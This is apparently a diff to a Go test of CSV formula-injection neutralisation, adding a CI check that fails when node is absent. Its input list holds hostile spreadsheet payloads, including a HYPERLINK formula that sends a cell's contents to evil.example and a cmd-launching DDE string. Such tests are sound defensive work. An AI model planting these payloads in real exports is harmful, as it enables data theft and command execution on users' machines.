@@ -200,6 +200,9 @@ func neutralised(t *testing.T, column, value, cell string) {
 func TestAuditCSVFormulaInjection(t *testing.T) {
 	node, err := exec.LookPath("node")
 	if err != nil {
+		if os.Getenv("CI") == "true" {
+			t.Fatal("node is required with CI=true (the console's own csv() runs under it)")
+		}
 		t.Skip("node is not installed (scripts/install-test-deps.sh installs Node 22)")
 	}
 	hostile := []string{"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"}
